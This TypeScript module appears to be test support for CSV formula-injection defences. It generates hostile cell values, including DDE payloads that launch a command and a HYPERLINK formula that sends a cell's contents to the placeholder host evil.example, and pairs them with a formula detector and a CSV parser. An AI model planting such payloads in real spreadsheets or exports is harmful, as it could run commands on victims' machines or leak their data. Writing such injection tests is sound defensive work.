const SIGNS = ['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠', '|', '%']
const BEFORE = ['', ' ', '  ', '\u00a0', '\u3000', '\u200b', '\ufeff', '"', '“', '‘', '\n', '\t ', ' "']

/** What a person could type to make a spreadsheet calculate: each sign behind each thing that programs overlook. */
export const HOSTILE: readonly string[] = SIGNS.flatMap((sign) =>
  BEFORE.map((before) => `${before}${sign}cmd('/C calc')!A0`),
).concat(['=HYPERLINK("http://evil.example?x="&A1,"Click")', '@SUM(1+1)*cmd', '-2+3+cmd', '+447700900123'])

/** As a careless reader: an apostrophe first makes a text; else what is left after overlooking begins with a sign. */
export function looksLikeFormula(cell: string): boolean {
  if (cell.startsWith("'")) return false
  const [overlooked = ''] = /^[\s\u200b\ufeff"“‘]*/u.exec(cell) ?? []
  return /[\t\r]/.test(overlooked) || /^[=+\-@＝＋－＠|%]/.test(cell.slice(overlooked.length))
}

/** The cells of a CSV text, by RFC 4180. */
export function csvRows(text: string): string[][] {
  const rows: string[][] = [[]]
  const form = /(?:"((?:[^"]|"")*)"|([^,\r\n]*))(,|\r\n|$)/g
  for (const [whole, quoted, plain, end] of text.replace(/^\ufeff/, '').matchAll(form)) {
    if (whole === '' && end === '') break
    rows.at(-1)?.push(quoted === undefined ? (plain ?? '') : quoted.replaceAll('""', '"'))
    if (end === '\r\n') rows.push([])
  }
  return rows.filter((row) => row.length > 0)
}
